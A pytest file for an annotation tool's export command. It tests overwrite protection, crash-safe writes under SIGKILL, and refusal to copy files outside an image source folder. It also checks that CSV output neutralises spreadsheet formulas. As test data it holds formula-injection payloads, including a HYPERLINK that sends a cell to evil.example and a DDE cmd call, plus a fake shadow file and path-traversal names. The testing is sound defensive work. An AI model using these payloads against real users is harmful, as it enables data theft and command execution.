"""Export never writes over the project or an existing file unless asked, never leaves
a partial export under its final name (real kill -9), copies only the images it
should, and writes no CSV cell a spreadsheet would run (issue 10, items 2, 3, 5, 11)."""

from __future__ import annotations

import csv
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from core.export import export
from core.formats import READERS, RawItem
from core.images import content_hash
from core.project import NewSample, Project
from tests.core import hostile
from tests.core.hostile import gumshoe

REPO = Path(__file__).resolve().parents[2]


def make_project(folder: Path, n: int, images: bool = False) -> Path:
    """A project of ``n`` samples with 4 landmarks; real PNG files when ``images``."""
    src = folder / "src"
    src.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(0)
    items = []
    for i in range(n):
        name = f"img{i:05d}.png"
        chash = ""
        if images:
            hostile.png(src / name, i, 24, 24)
            chash = content_hash((src / name).read_bytes())
        items.append(NewSample(name, name, 24, 24, chash, points=rng.uniform(1, 20, (4, 2))))
    path = folder / "p.gumshoe"
    from tests.core.synth import SCHEMA

    with Project.create(path, SCHEMA) as p:
        sid = p.add_source(src, "csv", "landmarks")
        for k in range(0, n, 5000):
            p.add_samples(sid, items[k:k + 5000])
        first = p.samples()[0].id
        p.add_label(first, points=rng.uniform(1, 20, (4, 2)), author="ann", note="fixed")
    return path


# ----------------------------------------------------------------------------- item 2


def test_export_never_writes_over_the_project_or_its_files(tmp_path: Path) -> None:
    project = make_project(tmp_path, 20)
    with Project.open(project) as p:  # leaves -wal and -shm while open
        p.set_review(1, "confirmed", "ann")
        assert project.with_name("p.gumshoe-wal").exists()
        before = p.count_samples()
    cache = tmp_path / "p.gumshoe-cache"
    cache.mkdir(exist_ok=True)
    targets = [(project, "csv"), (project.with_name("p.gumshoe-wal"), "csv"),
               (project.with_name("p.gumshoe-shm"), "coco"), (cache / "x.csv", "csv"),
               (tmp_path, "pts"), (tmp_path / "src", "pts")]
    for out, fmt in targets:
        for extra in ((), ("--overwrite",)):
            proc = gumshoe("export", project, out, "--format", fmt, *extra)
            assert proc.returncode == 1 and proc.stderr.count("\n") == 1, (out, proc.stderr)
            assert proc.stderr.startswith("gumshoe: error: ")
    with Project.open(project) as p:
        assert p.count_samples() == before
        assert p.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert p.sample(1).review_status == "confirmed"
    # a project whose name ends like a report: the report must not land on it
    twin = tmp_path / "twin"
    twin.mkdir()
    named = make_project(twin, 3)
    clash = named.rename(twin / "out.changes.csv")
    proc = gumshoe("export", clash, twin / "out.csv", "--format", "csv", "--overwrite")
    assert proc.returncode == 1 and "project file" in proc.stderr, proc.stderr
    with Project.open(clash) as p:
        assert p.count_samples() == 3


def test_existing_files_are_replaced_only_with_overwrite(tmp_path: Path) -> None:
    project = make_project(tmp_path, 10, images=True)
    out = tmp_path / "clean.csv"
    out.write_text("precious\n")
    proc = gumshoe("export", project, out, "--format", "csv")
    assert proc.returncode == 1 and "already exists (use --overwrite" in proc.stderr
    assert out.read_text() == "precious\n" and not (tmp_path / "clean.changes.csv").exists()
    assert gumshoe("export", project, out, "--format", "csv", "--overwrite").returncode == 0
    assert len(out.read_text().splitlines()) == 11
    # a report left from an earlier export blocks too
    out.unlink()
    (tmp_path / "clean.changes.json").write_text("{}")
    assert gumshoe("export", project, out, "--format", "csv").returncode == 1
    (tmp_path / "clean.changes.json").unlink()
    (tmp_path / "clean.changes.csv").unlink()
    # folders: an empty one is fine, a non-empty one needs --overwrite, and is replaced only
    # if it holds what a pts export writes
    folder = tmp_path / "faces"
    folder.mkdir()
    assert gumshoe("export", project, folder, "--format", "pts").returncode == 0
    assert gumshoe("export", project, folder, "--format", "pts").returncode == 1
    proc = gumshoe("export", project, folder, "--format", "pts", "--overwrite")
    assert proc.returncode == 0, proc.stderr
    assert len(list(folder.glob("*.pts"))) == 10
    (folder / "notes.txt").write_text("mine")
    proc = gumshoe("export", project, folder, "--format", "pts", "--overwrite")
    assert proc.returncode == 1 and "notes.txt" in proc.stderr
    assert (folder / "notes.txt").read_text() == "mine"
    from core.export_target import ExportTargetError

    with Project.open(project) as p, pytest.raises(ExportTargetError, match="is a folder"):
        export(p, folder, "csv", overwrite=True)


# ----------------------------------------------------------------------------- item 3


def _export_proc(project: Path, out: Path, fmt: str, *extra: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, "-m", "core", "export", str(project), str(out),
                             "--format", fmt, *extra], cwd=REPO, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, preexec_fn=hostile.limited())


def check_export(out: Path, fmt: str, n: int) -> bool:
    """False when nothing is at ``out``; True when a complete export and its own report
    are; fails the test on anything partial."""
    report = out.with_name(out.name.split(".")[0] + ".changes.json")
    if not os.path.lexists(out):
        return False
    assert report.exists(), f"{out} without its report"
    meta = json.loads(report.read_text())
    assert meta["written"] == n and meta["export"] == str(out)
    if fmt == "csv":
        with out.open(newline="") as f:
            rows = list(csv.reader(f))
        assert len(rows) == n + 1, f"partial export: {len(rows) - 1} of {n} rows"
        import hashlib

        assert hashlib.sha256(out.read_bytes()).hexdigest() == meta["export_sha256"]
    else:
        assert len(list(out.glob("*.pts"))) == n and len(list(out.glob("*.png"))) == n
    return True


@pytest.mark.parametrize(("fmt", "n"), [("csv", 20_000), ("pts", 300)])
def test_killed_export_never_looks_complete(tmp_path: Path, fmt: str, n: int) -> None:
    """kill -9 fresh exports and --overwrite ones while they write: the final name
    holds nothing or a complete export with its own report; the next export removes
    what the killed one left."""
    project = make_project(tmp_path, n, images=fmt == "pts")
    out = tmp_path / ("clean.csv" if fmt == "csv" else "clean")
    t = time.monotonic()
    assert gumshoe("export", project, out, "--format", fmt).returncode == 0
    full = time.monotonic() - t
    assert check_export(out, fmt, n)
    rng = random.Random(0)
    interrupted = 0
    round_ = 0
    # at least four rounds, more (up to ten) until two kills landed mid-write: on a
    # busy machine a kill after a random pause sometimes came after the export ended
    while round_ < 4 or (interrupted < 2 and round_ < 10):
        fresh = round_ % 2 == 0
        round_ += 1
        if fresh:  # remove the export and its report: a first export is killed
            for p in tmp_path.iterdir():
                if p.name.startswith("clean"):
                    p.unlink() if p.is_file() else shutil.rmtree(p)
        proc = _export_proc(project, out, fmt, *(() if fresh else ("--overwrite",)))
        # kill while it writes: once its first temporary file is there, at a random moment
        deadline = time.monotonic() + 4 * full + 30
        while proc.poll() is None and time.monotonic() < deadline and not any(
                p.name.startswith(".clean") for p in tmp_path.iterdir()) and not (
                fresh and os.path.lexists(out)):  # (an export written in place)
            time.sleep(0.002)
        time.sleep(rng.uniform(0, 0.2))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        present = check_export(out, fmt, n)
        assert present or fresh  # an --overwrite killed keeps the previous export
        interrupted += any(p.name.startswith(".clean") for p in tmp_path.iterdir())
        assert gumshoe("export", project, out, "--format", fmt, "--overwrite").returncode == 0
        assert check_export(out, fmt, n)
        assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".clean")] == []
    assert interrupted >= 2, "the kills did not land during the exports"


# ----------------------------------------------------------------------------- item 5


def test_pts_export_copies_only_images_under_their_source(tmp_path: Path) -> None:
    """A crafted project: a source root holding a secret text file and a sample whose
    path leaves the root; a replaced image. Only the genuine images are copied."""
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "shadow").write_text("root:$6$secret:19000:0:99999:7:::\n")
    hostile.png(etc / "face.png", 1)
    hostile.png(etc / "later.png", 2)
    hostile.png(tmp_path / "outside.png", 3)
    (etc / "fifo.png").parent.mkdir(exist_ok=True)
    os.mkfifo(etc / "fifo.png")
    pts = np.array([[1.0, 2.0], [3.0, 4.0]])
    names = ["face.png", "shadow", "../outside.png", str(tmp_path / "outside.png"),
             "later.png", "fifo.png"]
    hashes = [content_hash((etc / "face.png").read_bytes()), "", "", "",
              content_hash((etc / "later.png").read_bytes()), ""]
    project = tmp_path / "crafted.gumshoe"
    from core.schemas import landmarks_schema

    with Project.create(project, landmarks_schema(2)) as p:
        sid = p.add_source(etc, "pts", "landmarks")
        p.add_samples(sid, [NewSample(f"k{i}", name, 24, 24, h, points=pts)
                            for i, (name, h) in enumerate(zip(names, hashes, strict=True))])
    hostile.png(etc / "later.png", 9)  # replaced after import
    out = tmp_path / "out"
    proc = gumshoe("export", project, out, "--format", "pts", timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in out.iterdir()) == ["face.png", "face.pts"]
    report = json.loads((tmp_path / "out.changes.json").read_text())
    assert report["dropped"] == {"not an image file": 2, "image outside its source folder": 2,
                                 "image changed": 1}
    assert {r["key"]: r["dropped_because"] for r in report["changes"]} == {
        "k1": "not an image file", "k2": "image outside its source folder",
        "k3": "image outside its source folder", "k4": "image changed",
        "k5": "not an image file"}
    assert "secret" not in "".join(p.read_text(errors="replace") for p in out.iterdir()
                                   if p.suffix == ".pts")


# ----------------------------------------------------------------------------- item 11

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)", "+1+2", "-2+3", "\t=1+1"]


def test_csv_cells_never_start_a_formula_and_still_read_back(tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    for i, f in enumerate(FORMULAS):
        name = f.replace("/", "_") + ".png"
        hostile.png(src / name, i)
        (src / (name[:-4] + ".pts")).write_text(hostile.pts_text(i, 4))
    project = tmp_path / "p.gumshoe"
    proc = gumshoe("import", project, src, "--format", "pts")
    assert proc.returncode == 0 and "6 added" in proc.stdout, proc.stderr
    with Project.open(project) as p:
        for i, s in enumerate(p.samples()):
            p.add_label(s.id, points=p.current_label(s.id).points + 1, author=FORMULAS[i],
                        note=FORMULAS[-1 - i])
            p.set_review(s.id, "fixed", FORMULAS[i], "-" + FORMULAS[i])
    # beside the images, so the image cells are the bare names
    assert gumshoe("export", project, src / "clean.csv", "--format", "csv").returncode == 0
    for name in ("clean.csv", "clean.changes.csv"):
        with (src / name).open(newline="") as f:
            rows = list(csv.reader(f))
        cells = [c for row in rows[1:] for c in row]
        for c in cells:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(c)  # only plain numbers may start like a formula
        assert sum(c.startswith("'") for c in cells) >= 5
    # the export reads back: every image found, labels as exported
    back = [i for i in READERS["csv"].read(src / "clean.csv", "landmarks")
            if isinstance(i, RawItem)]
    assert len(back) == 6 and all(i.image.exists() for i in back)
    with Project.open(project) as p:
        current = {s.path: p.current_label(s.id).points for s in p.samples()}
    for item in back:
        np.testing.assert_allclose(item.points, current[item.key], atol=1e-4)
